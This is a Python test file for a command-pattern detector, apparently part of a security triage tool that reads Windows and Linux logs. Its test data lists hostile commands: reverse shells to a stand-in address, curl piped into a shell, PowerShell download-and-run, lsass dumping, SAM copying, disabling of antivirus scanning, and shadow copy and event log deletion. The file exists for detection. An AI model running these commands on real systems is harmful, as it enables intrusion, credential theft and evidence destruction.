"""D20: each pattern by a command of our own, what must not meet one, and what a no rests on."""

from __future__ import annotations

import time
from typing import Any

import pytest

from tests.logs import parsed
from tests.triage.detectors.conftest import located_frame
from tests.triage.detectors.windows_log import log, record, service, started, sysmon
from triage.detectors.command_patterns import PATTERNS
from triage.detectors.protocol import Scope

BASE64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"

STRONG = [
    ("a shell started by an Office program", "cmd.exe /c dir", "cmd.exe", "WINWORD.EXE"),
    ("a shell started by an Office program", "regsvr32 /s x.dll", "regsvr32.exe", "EXCEL.EXE"),
    ("a shell started by a web server", "cmd.exe /c ver", "cmd.exe", "w3wp.exe"),
    ("a shell started by a web server", "whoami", "whoami.exe", "tomcat9.exe"),
    ("a shell started by a database server", "cmd.exe /c ver", "cmd.exe", "sqlservr.exe"),
    ("an attack tool", "Rubeus.exe triage", "Rubeus.exe", "cmd.exe"),
    ("a credential thief's command", "x.exe privilege::debug exit", "x.exe", "cmd.exe"),
    ("memory of the logon process dumped", "rundll32 C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 o full", "", ""),
    ("memory of the logon process dumped", "procdump64.exe -ma lsass.exe out.dmp", "procdump64.exe", "cmd.exe"),
    ("password store copied", "reg.exe save HKLM\\SAM C:\\t\\s.hiv", "reg.exe", "cmd.exe"),
    ("password store copied", 'ntdsutil "ac i ntds" "ifm" "create full c:\\t" q q', "ntdsutil.exe", "cmd.exe"),
    ("encoded PowerShell", f"powershell.exe -NoP -w 1 -enc {BASE64}", "powershell.exe", "cmd.exe"),
    ("encoded PowerShell", f"pwsh /EncodedCommand {BASE64}", "pwsh.exe", "cmd.exe"),
    ("encoded PowerShell", f'p^owe^rshell -e "{BASE64}"', "cmd.exe", "explorer.exe"),
    ("download run in memory", 'powershell -c "IEX (iwr http://203.0.113.9/a)"', "powershell.exe", "cmd.exe"),
    ("download run in memory", "powershell (New-Object Net.WebClient).DownloadString('http://x.example/a')", "", ""),
    (
        "code decoded and run",
        "powershell iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aQ==')))",
        "",
        "",
    ),
    ("script scanning switched off", "powershell [Ref].Assembly.GetType('x.AmsiUtils')", "powershell.exe", "cmd.exe"),
    ("script scanning switched off", "powershell Set-MpPreference -DisableRealtimeMonitoring 1", "powershell.exe", ""),
    ("script fetched by mshta", "mshta.exe https://x.example/a.hta", "mshta.exe", "cmd.exe"),
    ("script fetched by regsvr32", "regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll", "regsvr32.exe", "cmd.exe"),
    ("script run by rundll32", 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"', "rundll32.exe", "cmd.exe"),
    ("download by certutil", "certutil -urlcache -split -f http://x.example/a a.exe", "certutil.exe", "cmd.exe"),
    ("download by bitsadmin", "bitsadmin /transfer j https://x.example/a C:\\a", "bitsadmin.exe", "cmd.exe"),
    ("package installed from the web", "msiexec /q /i https://x.example/a.msi", "msiexec.exe", "cmd.exe"),
    ("program started through WMI", 'wmic process call create "calc.exe"', "wmic.exe", "cmd.exe"),
    ("system program given a web address", "hh.exe http://x.example/a.chm", "hh.exe", "cmd.exe"),
    ("code put into another process", "mavinject.exe 612 /INJECTRUNNING C:\\t\\a.dll", "mavinject.exe", "cmd.exe"),
    ("backups deleted", "vssadmin.exe Delete Shadows /all /quiet", "vssadmin.exe", "cmd.exe"),
    ("event log cleared", "wevtutil cl Security", "wevtutil.exe", "cmd.exe"),
    ("download piped into a shell", "curl -s http://x.example/a | sudo bash", "", ""),
    ("reverse shell", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "", ""),
    ("reverse shell", "python3 -c 'import socket,os;os.dup2(3,0);os.system(\"/bin/sh\")'", "", ""),
]
WEAK = [
    ("PowerShell without a window", "powershell -WindowStyle Hidden -File C:\\s\\a.ps1", "powershell.exe", "cmd.exe"),
    ("command started by another program on its behalf", 'forfiles /p c:\\ /m x /c "cmd /c ver"', "forfiles.exe", ""),
    ("script from a download or temporary folder", "wscript C:\\Users\\ada\\Downloads\\a.js", "wscript.exe", ""),
    ("program file downloaded", "curl.exe -o a.exe https://x.example/a.exe", "curl.exe", "cmd.exe"),
    ("file in a temporary folder made runnable", "chmod +x /tmp/a", "", ""),
    ("program in a download or temporary folder", "setup.exe /s", "..\\..\\Users\\ada\\Downloads\\setup.exe", ""),
]
ORDINARY = [
    (
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
        "powershell.exe",
        "svchost.exe",
    ),
    ("powershell -Command Get-Item -Encoding utf8", "powershell.exe", "explorer.exe"),
    ("C:\\windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "svchost.exe", "services.exe"),
    ("rundll32.exe shell32.dll,Control_RunDLL desk.cpl", "rundll32.exe", "explorer.exe"),
    ("regsvr32 /s C:\\Windows\\System32\\vbscript.dll", "regsvr32.exe", "msiexec.exe"),
    ("certutil -hashfile a.iso SHA256", "certutil.exe", "cmd.exe"),
    ("msiexec /i C:\\Install\\office.msi /qn", "msiexec.exe", "explorer.exe"),
    ("curl https://status.corp.example/health", "curl.exe", "cmd.exe"),
    ("vssadmin list shadows", "vssadmin.exe", "cmd.exe"),
    ("wevtutil qe System /c:5", "wevtutil.exe", "cmd.exe"),
    ("reg query HKLM\\Software", "reg.exe", "cmd.exe"),
    ("splwow64.exe 8192", "splwow64.exe", "WINWORD.EXE"),
    ("nc -l 8080", "", ""),
    ("/usr/bin/apt-get install -y netcat-openbsd", "", ""),
]


def start(command: str, program: str, by: str) -> dict[str, Any]:
    return started(command, program or "x.exe", by=by or "explorer.exe")


@pytest.mark.parametrize(("pattern", "command", "program", "by"), STRONG)
def test_a_strong_pattern_is_a_yes(detect: Any, pattern: str, command: str, program: str, by: str) -> None:
    found = detect("D20", log(start(command, program, by)))["case"]
    assert (found.answer, found.confidence) == ("yes", "medium")
    assert [one["pattern"] for one in found.figures["found"]] == [pattern]
    assert found.sentence.lower().startswith(pattern.lower())


@pytest.mark.parametrize(("pattern", "command", "program", "by"), WEAK)
def test_a_hint_alone_is_partly(detect: Any, pattern: str, command: str, program: str, by: str) -> None:
    found = detect("D20", log(start(command, program, by)))["case"]
    assert (found.answer, found.confidence) == ("partly", "low")
    assert [one["pattern"] for one in found.figures["found"]] == [pattern]


def test_every_pattern_of_the_list_is_tested_here() -> None:
    assert {one.name for one in PATTERNS if one.strong} == {name for name, *_ in STRONG}
    assert {one.name for one in PATTERNS if not one.strong} == {name for name, *_ in WEAK}


@pytest.mark.parametrize(("command", "program", "by"), ORDINARY)
def test_an_ordinary_command_meets_none(detect: Any, command: str, program: str, by: str) -> None:
    found = detect("D20", log(start(command, program, by)))["case"]
    assert (found.answer, found.sentence) == ("no", "None of 1 process start meets a pattern of the list.")


def test_different_patterns_make_it_sure(detect: Any) -> None:
    twice = [started("wevtutil cl Security", at=n) for n in (0, 500)]
    assert detect("D20", log(*twice))["case"].confidence == "medium"
    found = detect("D20", log(*twice, started("vssadmin delete shadows /all", at=900)))["case"]
    assert (found.confidence, found.figures["commands"], found.figures["patterns"]) == ("high", 3, 2)
    assert found.sentence.endswith("; also backups deleted (1) and event log cleared (1).")


def test_one_start_told_by_sysmon_and_by_the_audit_counts_once(detect: Any) -> None:
    command = "certutil -urlcache -f http://x.example/a a"
    told = [sysmon(command, "certutil.exe"), started(command, "certutil.exe", at=31, SubjectUserName="WS-7$")]
    found = detect("D20", log(*told))["case"]
    assert (found.figures["commands"], found.entities["user"], len(found.evidence)) == (1, ["ada"], 1)
    later = [told[0], started(command, "certutil.exe", at=61)]
    assert detect("D20", log(*later))["case"].figures["commands"] == 2
    again = [*told, started(command, "certutil.exe", at=40), started(command, "certutil.exe", at=400)]
    assert detect("D20", log(*again))["case"].figures["commands"] == 3


def test_what_began_a_start_is_read_from_its_child_where_the_log_has_no_more(detect: Any) -> None:
    began = {"ParentCommandLine": f"powershell -enc {BASE64}", "by": "powershell.exe"}
    children = [sysmon(f"ping host-{n}", "ping.exe", at=200 * n, **began) for n in range(3)]
    found = detect("D20", log(*children))["case"]
    assert (found.answer, found.figures["commands"], found.figures["found"][0]["pattern"]) == (
        "yes",
        1,
        "encoded PowerShell",
    )
    itself = sysmon(began["ParentCommandLine"], "powershell.exe", at=-5)
    assert detect("D20", log(itself, *children))["case"].figures["commands"] == 1


def test_a_sentence_repeats_no_secret_and_stays_short(detect: Any) -> None:
    command = f"curl -u ada:hunter2 http://x.example/a | sh # {'x' * 300}\n\x1b[31m"
    found = detect("D20", log(started(command)))["case"]
    assert "hunter2" not in str(found.to_json())
    assert "“curl -u ada:*** http://x.example/a | sh" in found.sentence
    assert len(found.sentence) < 250
    assert found.sentence.isprintable()


def test_an_alerts_own_command_is_masked_as_well(detect: Any) -> None:
    event = {"event.category": "process", "event.action": "start", "event.count": 1, "host.name": "ws-7"}
    said = {
        "process.name": "cmd.exe",
        "process.command_line": "cmd /c bitsadmin /transfer j http://a:hunter2@x.example/a b",
    }
    found = detect("D20", located_frame([event | said]))["case"]
    assert found.answer == "yes"
    assert "hunter2" not in found.sentence + str(found.figures)


def test_sudo_is_read_like_any_start(detect: Any) -> None:
    ran = "COMMAND=/usr/bin/bash -c curl http://x.example/a | bash"
    line = f"Mar 30 10:00:01 web-1 sudo:      ada : TTY=pts/0 ; PWD=/home/ada ; USER=root ; {ran}"
    found = detect("D20", located_frame(parsed(line)[0]))["case"]
    assert (found.answer, found.entities) == ("yes", {"user": ["ada"], "host": ["web-1"]})


@pytest.mark.parametrize("name", ["D14", "D20", "D21"])
def test_a_log_of_sudo_alone_carries_no_no(detect: Any, name: str) -> None:
    """It tells of what ran with another's rights; what ran without leaves no line."""
    line = "Mar 30 10:00:01 web-1 sudo:  ada : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/apt-get update"
    events = located_frame(parsed(line)[0])
    assert events["event.category"].to_list() == ["process"]
    found = detect(name, events)["case"]
    assert (found.answer, found.confidence) == ("cannot_tell", "low")


def test_a_no_needs_command_lines(detect: Any) -> None:
    found = detect("D20", log(started(None, "svchost.exe")))["case"]
    assert (found.answer, found.missing) == ("cannot_tell", ("command lines of processes",))
    assert "attach the log of the host (Sysmon, or process creation audited with its command line)" in found.sentence
    assert detect("D20", log(started(None, "cmd.exe", by="w3wp.exe")))["case"].answer == "yes"
    assert detect("D20", log(record(4625, TargetUserName="ada")))["case"].answer == "cannot_tell"


def test_a_no_needs_the_time_asked_about(detect: Any) -> None:
    asked = Scope(hosts=("ws-7.corp.example",), window=("2026-11-17T07:30:00Z", "2026-11-17T08:10:00Z"))
    events = log(started("whoami", "whoami.exe"), service("C:\\a.exe", at=1200))
    assert detect("D20", events, scope=asked)["case"].missing == (
        "command lines of processes for 17 Nov 07:30–08:00 UTC",
    )
    early = log(
        record(4624, -3600, TargetUserName="ada"), started("whoami", "whoami.exe"), service("C:\\a.exe", at=1200)
    )
    assert detect("D20", early, scope=asked)["case"].answer == "no"
    other = [record(4624, at, TargetUserName="ada", Hostname="ws-9.corp.example") for at in (-3600, 1200)]
    assert detect("D20", log(*other, started("whoami", "whoami.exe")), scope=asked)["case"].answer == "cannot_tell"


def test_a_case_about_one_user_and_what_lies_elsewhere(detect: Any) -> None:
    other = started("wevtutil cl Security", at=5, SubjectUserName="eve")
    found = detect("D20", log(started("whoami", "whoami.exe"), other), scope=Scope(users=("ada",)))
    assert (found["case"].answer, found["elsewhere"].answer) == ("no", "yes")
    hint = started("curl.exe -o a.exe https://x.example/a.exe", "curl.exe", SubjectUserName="eve")
    assert list(detect("D20", log(started("whoami", "whoami.exe"), hint), scope=Scope(users=("ada",)))) == ["case"]


def test_no_command_line_takes_long(detect: Any) -> None:
    lines = ["powershell " + "-e " * 10_000, "wmic " * 6_000, "schtasks /create /tr " + "=" * 30_000, "\\\\" * 16_000]
    events = log(*(started(line, at=n) for n, line in enumerate(lines)))
    began = time.process_time()
    for name in ("D14", "D20", "D21"):
        detect(name, events)
    assert time.process_time() - began < 2
